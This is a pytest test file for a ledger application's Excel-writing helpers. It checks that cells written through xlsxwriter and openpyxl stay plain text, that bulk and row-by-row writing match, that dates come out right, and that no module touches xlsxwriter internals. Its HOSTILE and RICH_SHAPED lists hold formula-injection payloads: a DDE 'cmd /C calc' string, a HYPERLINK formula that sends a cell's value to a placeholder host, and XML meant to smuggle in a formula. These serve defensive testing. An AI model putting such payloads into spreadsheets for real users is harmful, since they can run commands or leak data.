from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from taizhang.lib.xlsx import openpyxl_set, xlsxwriter_write_row, xlsxwriter_write_rows

HOSTILE = ["=1+1", "@SUM(A1)", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&B1,"点我")']


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsxwriter_rows_keep_hostile_text_as_text():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    xlsxwriter_write_row(
        sheet,
        0,
        [*HOSTILE, 3, date(2023, 9, 5), None, True],
        date_format=book.add_format({"num_format": "yyyy-mm-dd"}),
    )
    book.close()
    assert "<f>" not in _sheet_xml(out.getvalue())
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    values = [c.value for c in ws[1]]
    assert values[:5] == HOSTILE
    assert values[5] == 3 and values[6].date() == date(2023, 9, 5) and values[8] == "是"
    assert all(c.data_type == "s" for c in ws[1][:5])


def test_openpyxl_cells_keep_hostile_text_as_text():
    book = openpyxl.Workbook()
    ws = book.active
    for col, value in enumerate(HOSTILE, start=1):
        openpyxl_set(ws.cell(row=1, column=col), value)
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in _sheet_xml(out.getvalue())


class _Label(str):
    pass


# Every kind of cell the row writer must leave to xlsxwriter, next to plain ones: the sheet must not change.
AWKWARD_ROWS = [
    [1, "学习台账", "", 3.5, -0.0, 10**17, 2**70, "=1+1", "-2", "@x", "a\nb", "tab\tinside", '"quoted"'],
    ["A&B", "<b>", "a > b", "<r>not rich</r>", "x\x01y", "carriage\r", "_x0041_", "\ufffe", "emoji 😀"],
    [" leading", "trailing ", "\n", "\u3000全角空格", "ok"],
    [None, True, False, Decimal("1.25"), date(2023, 9, 5), datetime(2023, 9, 5, 8, 30), _Label("子类")],
    ["x" * 40000, "y" * 17000, "z"],
    [],
    [float("1e300"), 0.1, 7],
    ["just", "text"],
]


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        # docProps/core.xml holds the time the workbook was written.
        return {n: z.read(n) for n in z.namelist() if n != "docProps/core.xml"}


def _book(
    rows: list[list],
    *,
    bulk: bool,
    constant_memory: bool = True,
    column_format: bool = False,
    row_ahead: bool = False,
) -> bytes:
    """A sheet made as ledgers make theirs (title, header with a row height, rows, then the filter), the rows
    written one by one through xlsxwriter_write_row, or with xlsxwriter_write_rows (its own dispatch of the
    common cells must come out as the generic one does)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": constant_memory, "in_memory": False})
    sheet = book.add_worksheet("台账")
    title = book.add_format({"bold": True})
    head = book.add_format({"bold": True, "border": 1})
    cell = None if column_format else book.add_format({"border": 1, "text_wrap": True})
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    if column_format:
        sheet.set_column(1, 2, 12, book.add_format({"italic": True}))
    sheet.merge_range(0, 0, 0, 5, "标题", title)
    xlsxwriter_write_row(sheet, 1, ["序号", "名称"], head)
    sheet.set_row(1, 32)
    if row_ahead:
        sheet.set_row(5, 40)  # a row ahead with its own height: written the way xlsxwriter writes it
    if bulk:
        assert xlsxwriter_write_rows(sheet, 2, iter(rows), cell, day) == len(rows)
    else:
        for r, values in enumerate(rows, start=2):
            xlsxwriter_write_row(sheet, r, values, cell, day)
    sheet.write_string(2 + len(rows), 0, "制表人：", cell)
    sheet.autofilter(1, 0, 1 + len(rows), 5)
    book.close()
    return out.getvalue()


PLAIN_ROWS = [[n, f"第{n}行", "", n * 1.5] for n in range(30)]


@pytest.mark.parametrize(
    "rows", [PLAIN_ROWS, AWKWARD_ROWS + PLAIN_ROWS, PLAIN_ROWS + AWKWARD_ROWS], ids=["plain", "first", "last"]
)
@pytest.mark.parametrize("row_ahead", [False, True])
@pytest.mark.parametrize("column_format", [False, True])
@pytest.mark.parametrize("constant_memory", [True, False])
def test_rows_in_bulk_make_the_same_workbook_as_row_by_row(rows, constant_memory, column_format, row_ahead):
    options = {"constant_memory": constant_memory, "column_format": column_format, "row_ahead": row_ahead}
    bulk = _book(rows, bulk=True, **options)
    assert _parts(bulk) == _parts(_book(rows, bulk=False, **options))
    values = [[c.value for c in r] for r in openpyxl.load_workbook(io.BytesIO(bulk)).active.iter_rows()]
    assert values[2][:3] == [rows[0][0], rows[0][1], ""]


@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(
        st.lists(st.one_of(st.text(max_size=12), st.integers(-(2**60), 2**60), st.none()), max_size=6),
        max_size=8,
    )
)
def test_any_text_and_numbers_come_out_as_xlsxwriter_writes_them(rows):
    assert _parts(_book(rows, bulk=True)) == _parts(_book(rows, bulk=False))
    assert _parts(_book(rows, bulk=True, row_ahead=True)) == _parts(_book(rows, bulk=False, row_ahead=True))


def test_dates_in_bulk_are_real_dates_under_the_date_format():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True, "in_memory": False})
    sheet = book.add_worksheet()
    chinese = book.add_format({"num_format": 'yyyy"年"m"月"d"日"'})
    assert (
        xlsxwriter_write_rows(sheet, 0, [[date(2023, 9, 5), "x"], [date(2024, 2, 29), 1]], None, chinese) == 2
    )
    book.close()
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert ws["A1"].value == datetime(2023, 9, 5) and ws["A2"].value == datetime(2024, 2, 29)
    assert ws["A1"].number_format == 'yyyy"年"m"月"d"日"' and ws["A1"].is_date


# xlsxwriter's internals that lib/xlsx.py once wrote through (issue 17): no module may touch them again.
PRIVATE = re.compile(
    r"\.(fh|previous_row|row_info|col_info|xls_rowmax|xls_colmax|dim_(row|col)(min|max)|table|comments"
    r"|excel_version|default_row_height|original_row_height|_write_single_row|_get_xf_index|_check_dimensions)\b"
)


def test_no_module_writes_through_xlsxwriter_internals():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter" not in text:
            continue
        offenders += [f"{path.relative_to(root)}: {m.group(0)}" for m in PRIVATE.finditer(text)]
    assert offenders == []


RICH_SHAPED = ["<r>危险</r>", '<r></r></is><f>HYPERLINK("http://x/","y")</f><is><r></r>', "<r><t>x</t></r>"]


@pytest.mark.parametrize("bulk", [False, True])
@pytest.mark.parametrize("constant_memory", [True, False])
def test_text_shaped_like_xlsxwriter_rich_strings_stays_that_text_and_injects_nothing(constant_memory, bulk):
    rows = [[*RICH_SHAPED, "普通"], ["第二行", *RICH_SHAPED]]
    data = _book(rows, bulk=bulk, constant_memory=constant_memory)
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[3]][:4] == rows[0]
    assert [c.value for c in ws[4]][:4] == rows[1]
    assert ws["A3"].border.left.style == "thin"  # the row's cell format is kept
